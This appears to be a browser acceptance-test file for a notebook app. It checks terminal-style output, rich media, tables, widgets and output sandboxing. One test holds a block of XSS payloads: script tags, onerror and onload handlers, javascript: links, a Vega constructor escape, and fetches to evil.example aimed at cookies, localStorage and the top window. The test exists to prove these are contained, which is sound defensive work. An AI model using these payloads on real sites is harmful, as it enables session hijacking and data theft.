# ruff: noqa: E501 - code of cells
"""What cells print and draw, as a person sees it: like a terminal, rich, from widgets, and never a way into our page."""

import re
import time

import pytest
from playwright.sync_api import FrameLocator, Locator, expect

from tests.acceptance.screen import PATIENCE, Screen
from tests.stack import Stack

pytestmark = [
    pytest.mark.browser, pytest.mark.docker, pytest.mark.redis, pytest.mark.timeout(600, func_only=True),
    pytest.mark.usefixtures("nothing_is_left"),
]  # fmt: skip


def add(screen: Screen, code: str, cell: int) -> Locator:
    """One more cell at the end, run."""
    screen.page.get_by_role("button", name="Add code cell").last.click()
    return screen.run(code, cell)


def frame(output: Locator, number: int = 0) -> FrameLocator:
    """The document of a framed output, which is loaded when it is near."""
    place = output.locator(".frame-output").nth(number)
    place.scroll_into_view_if_needed(timeout=PATIENCE)
    return place.locator("iframe").content_frame


BARS = r"""
import sys, time
from tqdm import tqdm
for _ in tqdm(range(2), desc='outer'):
    for _ in tqdm(range(3), desc='middle', leave=False):
        for _ in tqdm(range(4), desc='inner', leave=False):
            time.sleep(0.02)
print('\033]8;;https://example.org/x\033\\a link\033]8;;\033\\ and \033]8;;javascript:alert(1)\033\\none\033]8;;\033\\')
print('|日本|\n|abcd|')
for n in range(10_000): print('line', n)
"""


def test_text_is_drawn_as_a_terminal_draws_it(screen: Screen) -> None:
    screen.create()
    output = screen.run(BARS)
    screen.finished()
    bars = output.locator(".stderr")
    expect(bars).to_have_count(1)
    # Three bars, one under the other; of those that do not stay, nothing is left.
    expect(bars.locator("pre")).to_have_text(re.compile(r"^outer: 100%\|█+\| 2/2 [^\n]*\s*$"))
    expect(bars.get_by_text("stderr", exact=True)).to_be_visible()
    expect(output.get_by_role("link", name="a link")).to_have_attribute("href", "https://example.org/x")
    expect(output.get_by_role("link")).to_have_count(1)
    wide = output.locator(".wide-character")
    widths = wide.evaluate_all("found => found.map(one => one.getBoundingClientRect().width)")
    assert len(widths) == 2
    assert widths[0] == pytest.approx(widths[1])
    # Ten thousand lines: the beginning and the end are there, and all of them on demand, without the page standing still.
    expect(output.get_by_text("line 9999")).to_be_visible()
    began = time.monotonic()
    output.get_by_role("button", name=re.compile(r"Show 9,9\d\d more lines")).click()
    expect(output.locator("pre").nth(30)).to_be_attached()
    assert time.monotonic() - began < 5
    expect(output.get_by_role("button", name="Show less")).to_be_attached()


FLUENT = """
import time
for n in range(400): print('\\n'.join(f'{n} {m}' for m in range(25))); time.sleep(0.005)
"""
# How long a frame took at most, while something happened.
WATCH = """() => { window.longest = 0; let last = performance.now(); window.watching = true;
const look = now => { window.longest = Math.max(window.longest, now - last); last = now; if (window.watching) requestAnimationFrame(look); };
requestAnimationFrame(look); }"""


def test_errors_lead_to_their_cells_and_a_stream_does_not_stop_who_types(screen: Screen) -> None:
    page = screen.page
    screen.create()
    screen.run("def ratio(x):\n    y = 1\n    return y / x")
    screen.finished(1)
    failed = add(screen, "ratio(0)", 2)
    screen.finished(2, "failed")
    expect(failed.get_by_role("button", name="Copy error")).to_be_attached()
    expect(failed.get_by_title("Go to line 1 of cell 2")).to_be_visible()
    failed.get_by_title("Go to line 3 of cell 1").click()
    expect(screen.code(1)).to_be_focused()
    page.wait_for_function("getSelection().toString().includes('return y / x')")
    # A cell streams ten thousand lines; typing in another one goes on.
    add(screen, FLUENT, 3)
    screen.shows("5 0", 3)
    screen.code(1).click()
    page.evaluate(WATCH)
    page.keyboard.type("# typed meanwhile", delay=20)
    assert page.evaluate("(window.watching = false, window.longest)") < 1000
    expect(screen.code(1)).to_contain_text("typed meanwhile")
    screen.finished(3)


RICH = """
from IPython.display import Audio, HTML, JSON, Latex, Markdown, SVG, display
def show(mime, data, **more): display({mime: data, 'text/plain': 'plain', **more}, raw=True)
show('application/vnd.plotly.v1+json', {'data': [{'type': 'bar', 'x': ['a', 'b'], 'y': [1, 3]}], 'layout': {'title': {'text': 'Sold'}}})
show('application/vnd.vegalite.v5+json', {'$schema': 'https://vega.github.io/schema/vega-lite/v5.json', 'data': {'values': [{'a': 'A', 'b': 28}]},
     'mark': 'bar', 'encoding': {'x': {'field': 'a', 'title': 'letters'}, 'y': {'field': 'b', 'type': 'quantitative'}}})
display(HTML('<p>wants <img src="https://example.org/x.png"></p><script src="https://cdn.bokeh.org/bokeh.js"></script>'))
display(Audio(data=bytes(800), rate=8000))
display(Latex(r'$\\frac{1}{2}$'), Markdown('**strong**'), JSON({'deep': {'er': [1, 2]}}))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><circle r="9" cx="20" cy="20"/></svg>'))
show('application/pdf', 'JVBERi0=')
show('image/png', 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')
"""  # fmt: skip


def test_rich_outputs_are_seen_without_a_network(screen: Screen) -> None:
    page = screen.page
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))  # what is refused never begins
    screen.create()
    output = screen.run(RICH)
    screen.finished()
    expect(frame(output, 0).locator(".main-svg").first).to_be_visible(timeout=PATIENCE)
    expect(frame(output, 0).get_by_text("Sold")).to_be_visible()
    expect(frame(output, 1).get_by_text("letters")).to_be_visible(timeout=PATIENCE)
    told = output.get_by_text("This output wants the internet")
    told.scroll_into_view_if_needed()
    expect(told).to_contain_text("example.org")
    expect(told).to_contain_text("cdn.bokeh.org")
    expect(told).to_contain_text("INLINE")
    audio = frame(output, 3).locator("audio")
    expect(audio).to_be_attached(timeout=PATIENCE)
    assert audio.evaluate("audio => audio.error") is None
    expect(output.locator(".katex")).to_be_visible(timeout=PATIENCE)
    expect(output.locator("strong")).to_have_text("strong")
    output.get_by_text("deep:").click()
    output.get_by_text("er:").click()
    expect(output.locator(".json-number").first).to_have_text("1")
    assert output.get_by_role("img").last.evaluate("picture => picture.decode().then(() => picture.naturalWidth)") == 1
    expect(output.get_by_role("link", name="Download it")).to_have_attribute("download", "output.pdf")
    with page.expect_download() as download:
        output.locator(".frame-output").first.hover()
        output.get_by_role("button", name="Download as PNG").first.click()
    assert download.value.suggested_filename == "figure.png"
    # The theme changes in the frames too.
    colour = "getComputedStyle(document.documentElement).color"
    light = frame(output, 1).locator("body").evaluate(colour)
    page.emulate_media(color_scheme="dark")
    expect(frame(output, 1).locator("html")).not_to_have_css("color", light)
    expect(frame(output, 1).get_by_text("letters")).to_be_visible(timeout=PATIENCE)
    assert not [url for url in asked if "127.0.0.1" not in url and not url.startswith(("data:", "blob:"))]
    # Frames that are far from the window are no frames yet; when near, they are.
    many = add(screen, 'for n in range(60): display(HTML(f\'<div style="height:300px" class="n{n}">{n}</div>\'))', 2)
    screen.finished(2)
    expect(many.locator(".frame-output")).to_have_count(60)
    assert many.locator("iframe").count() < 30
    many.locator(".frame-output").last.scroll_into_view_if_needed()
    expect(many.locator("iframe").last.content_frame.locator(".n59")).to_be_visible(timeout=PATIENCE)
    assert page.locator("iframe").count() < 40


TABLE = """
import pandas as pd
pd.DataFrame({'name': [f'n{i % 50:02}' for i in range(2000)], 'value': range(2000, 0, -1)})
"""
SMALL = "import pandas as pd\npd.DataFrame({'city': ['Rome', None, 'Bath'], 'heat': [31.5, 20.25, float('nan')]})"


def test_a_table_that_the_kernel_has_is_sorted_filtered_and_leafed_through(screen: Screen) -> None:
    page = screen.page
    screen.create()
    output = screen.run(TABLE)
    screen.finished()
    first = output.locator("tbody tr").first
    expect(output.locator("caption")).to_have_text("Table of 2,000 rows and 2 columns")
    expect(first).to_have_text(re.compile(r"0\s*n00\s*2000"))
    output.get_by_role("button", name="value").focus()
    page.keyboard.press("Enter")
    expect(output.get_by_role("columnheader", name="value")).to_have_attribute("aria-sort", "ascending")
    # Only the kernel has the row that is first now.
    expect(first).to_have_text(re.compile(r"1999\s*n49\s*1$"), timeout=PATIENCE)
    output.get_by_role("button", name="Last rows").click()
    expect(first).to_have_text(re.compile(r"9\s*n09\s*1991"), timeout=PATIENCE)
    output.get_by_role("button", name="Filter", exact=True).click()
    output.get_by_role("textbox", name="Filter name").fill("n07")
    expect(output.get_by_text("Rows 1 to 10 of 40, of 2,000 in all")).to_be_visible(timeout=PATIENCE)


def test_a_table_that_is_whole_needs_no_kernel(screen: Screen) -> None:
    page = screen.page
    screen.create()
    small = screen.run(SMALL)
    screen.finished()
    # What is missing comes last, either way.
    for _ in range(2):
        small.get_by_role("button", name="heat").click()
    expect(small.locator("tbody tr").first).to_have_text(re.compile(r"0\s*Rome\s*31.5"))
    expect(small.locator("tbody tr").last).to_have_text(re.compile(r"2\s*Bath\s*NaN"))
    small.get_by_role("button", name="Filter", exact=True).click()
    small.get_by_role("textbox", name="Filter city").fill("=")
    expect(small.locator("tbody tr")).to_have_text([re.compile(r"1\s*None\s*20.25")])
    small.get_by_role("button", name="Clear filters").click()
    small.get_by_role("button", name="heat").click()
    with page.expect_download() as download:
        small.locator(".data-table").hover()
        small.get_by_role("button", name="Download as CSV").click()
    assert download.value.path().read_text() == ",city,heat\n0,Rome,31.5\n1,,20.25\n2,Bath,\n"


WIDGETS = """
import ipywidgets as widgets
from IPython.display import display
slider = widgets.IntSlider(value=5, description='n')
shown = widgets.Output()
@shown.capture()
def pressed(_): print('pressed at', slider.value)
button = widgets.Button(description='Press me')
button.on_click(pressed)
display(widgets.VBox([slider, button, shown]))
widgets.interact(lambda x: print('square', x * x), x=widgets.IntText(3, description='x'))
"""


def test_widgets_speak_with_the_kernel_and_are_there_after_a_reload(screen: Screen) -> None:
    page = screen.page
    screen.create()
    output = screen.run(WIDGETS)
    screen.finished()
    handle = frame(output).locator(".noUi-handle")
    expect(handle).to_be_visible(timeout=PATIENCE)
    handle.focus()
    for _ in range(3):
        page.keyboard.press("ArrowRight")
    expect(frame(output).locator(".widget-readout")).to_have_text("8")
    frame(output).get_by_role("button", name="Press me").click()
    expect(frame(output).locator(".widget-output")).to_contain_text("pressed at 8", timeout=PATIENCE)
    number = frame(output, 1).get_by_role("spinbutton")
    number.fill("7")
    number.press("Enter")
    expect(frame(output, 1).locator(".widget-output")).to_contain_text("square 49", timeout=PATIENCE)
    add(screen, "slider.value", 2)
    screen.shows("8", 2)
    # The code moves it, in every frame that shows it.
    add(screen, "slider.value = 42; slider", 3)
    expect(frame(screen.output(3)).locator(".widget-readout")).to_have_text("42", timeout=PATIENCE)
    expect(frame(output).locator(".widget-readout")).to_have_text("42")
    page.reload()
    expect(frame(screen.output(1)).locator(".widget-readout")).to_have_text("42", timeout=PATIENCE)
    expect(frame(screen.output(1)).locator(".widget-output")).to_contain_text("pressed at 8")


def test_a_display_is_updated_by_another_cell_also_after_a_reload(screen: Screen) -> None:
    page = screen.page
    screen.create()
    screen.run("from IPython.display import display\nhandle = display('waiting', display_id=True)")
    screen.shows("waiting")
    add(screen, "handle.update('arrived'); print('told')", 2)
    screen.shows("told", 2)
    screen.shows("arrived")
    page.reload()
    screen.shows("arrived")
    # And when nothing but what was saved is left.
    page.locator("summary[aria-label^='Session:']").click()
    page.get_by_role("button", name="End session").click()
    page.get_by_role("dialog").get_by_role("button", name="End session").click()
    expect(page.get_by_text("The session has ended.")).to_be_visible(timeout=PATIENCE)
    page.reload()
    screen.shows("arrived")


# Each tries to reach our page, its cookies, the top window or the network, and says what it reached.
HOSTILE = r"""
from IPython.display import HTML, Markdown, SVG, display
ATTACK = "try{parent.hacked=1}catch(e){};try{top.location='/logout'}catch(e){};fetch('https://evil.example/'+1).catch(()=>0);fetch('/api/v1/sessions').catch(()=>0);new Image().src='https://evil.example/i';try{document.cookie}catch(e){};try{localStorage.x}catch(e){}"
def show(mime, data): display({mime: data, 'text/plain': 'plain'}, raw=True)
display(HTML(f'<p id=ran>html</p><script>{ATTACK}</script><iframe src="https://evil.example/f"></iframe><form action="/logout" method=post><button>x</button></form>'))
show('application/javascript', ATTACK + ";element.textContent='script ran'")
show('application/vnd.plotly.v1+json', {'data': [{'type': 'scatter', 'y': [1, 2], 'text': [f'<a href="javascript:{ATTACK}">x</a>'] * 2, 'mode': 'text'}],
     'layout': {'title': {'text': f'<img src=x onerror="{ATTACK}"><a href="https://evil.example/a">go</a>'}, 'images': [{'source': 'https://evil.example/p.png', 'x': 0, 'y': 1, 'sizex': 1, 'sizey': 1}]}})
show('application/vnd.vega.v5+json', {'$schema': 'https://vega.github.io/schema/vega/v5.json', 'width': 80, 'height': 40, 'data': [{'name': 't', 'url': 'https://evil.example/d.json'}, {'name': 's', 'values': [{}]}],
     'signals': [{'name': 'x', 'update': "pad('a',1,'b')"}],
     'marks': [{'type': 'image', 'from': {'data': 's'}, 'encode': {'enter': {'url': {'value': 'https://evil.example/v.png'}, 'width': {'value': 9}}}},
               {'type': 'text', 'from': {'data': 's'}, 'encode': {'enter': {'text': {'value': 'press'}, 'y': {'value': 20}, 'href': {'value': 'javascript:top.hacked=1'}}}}]})
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="30" height="30" onload="window.hacked=1"><script>window.hacked=1</script><image href="https://evil.example/s.png"/><rect width="30" height="30" onclick="window.hacked=1"/></svg>'))
display(Markdown('<img src=x onerror="window.hacked=1"><svg onload="window.hacked=1"></svg> [x](javascript:window.hacked=1) <a href="data:text/html,x">d</a> <style>body{display:none}</style> **bold**'))
show('application/vnd.thermae.table+json', {'version': 1, 'id': '"><script>window.hacked=1</script>', 'columns': [{'name': '<img src=x onerror="window.hacked=1">', 'type': 'x', 'index': False}], 'rows': [['<b onmouseover="window.hacked=1">cell</b>']], 'total': 1, 'truncated': False})
show('application/vnd.vega.v5+json', {'$schema': 'https://vega.github.io/schema/vega/v5.json', 'signals': [{'name': 'y', 'update': "''.constructor.constructor('top.hacked=1')()"}]})
show('application/vnd.jupyter.widget-view+json', {'model_id': '<img src=x onerror=window.hacked=1>'})
display(HTML('<meta http-equiv=refresh content="0;url=https://evil.example/m"><script>location.href = "/logout"</script>'))
show('text/latex', r'$\href{javascript:window.hacked=1}{x}\includegraphics{https://evil.example/l.png}\htmlId{main}{y}$')
"""  # fmt: skip


def test_no_output_reaches_our_page_or_the_network(screen: Screen) -> None:
    page = screen.page
    address = screen.create()
    asked: list[str] = []
    # Attempts that the browser stops before they leave it are reported as failed; none may go out.
    page.on("requestfinished", lambda request: asked.append(f"{request.method} {request.url}"))
    page.context.on("page", lambda _: asked.append("a window was opened"))
    output = screen.run(HOSTILE)
    screen.finished()
    expect(frame(output, 0).locator("#ran")).to_be_visible(timeout=PATIENCE)
    expect(frame(output, 1).get_by_text("script ran")).to_be_attached(timeout=PATIENCE)
    expect(frame(output, 2).locator(".main-svg").first).to_be_attached(timeout=PATIENCE)
    frame(output, 3).get_by_text("press").click(timeout=PATIENCE)
    expect(output.get_by_text("bold")).to_be_visible()
    expect(frame(output, 4).get_by_text("could not be drawn")).to_be_visible(timeout=PATIENCE)
    output.get_by_text("cell</b>").hover(force=True)
    output.locator(".image-output img").click(force=True)
    # A link that is pressed in a frame is offered, with its address, and not followed.
    frame(output, 2).get_by_text("go").first.dispatch_event("click")
    page.wait_for_timeout(500)  # for what must not come
    expect(output.locator("a[href^='javascript'], a[href^='data']")).to_have_count(0)
    assert page.evaluate("window.hacked") is None
    assert page.url == address
    assert not [line for line in asked if "evil.example" in line or "logout" in line or "window" in line], asked
    expect(page.get_by_role("main")).to_be_visible()


def test_a_large_output_comes_when_it_is_near(screen: Screen, stack: Stack) -> None:
    page = screen.page
    screen.create()
    screen.run("for n in range(9000): print(n, 'x' * 60)\nprint('the last line')")
    screen.shows("the last line")
    screen.finished()
    page.keyboard.press("Control+s")
    identifier = f"notebook-{re.search('[0-9a-f-]{36}', page.url)[0]}"  # type: ignore[index]
    (session,) = stack.console.sessions(identifier__startswith=identifier, state="leased")
    stack.console.end(session=str(session["id"]))
    # Nobody opens a session for it: what is shown comes from what was saved.
    page.route("**/api/v1/sessions", lambda route: route.abort())
    with page.expect_response(re.compile(r"/document\?outputs=near")) as document:
        page.reload()
    assert len(document.value.body()) < 50_000
    assert next(iter(document.value.json()["left_out"].values())) > 500_000
    screen.shows("the last line")
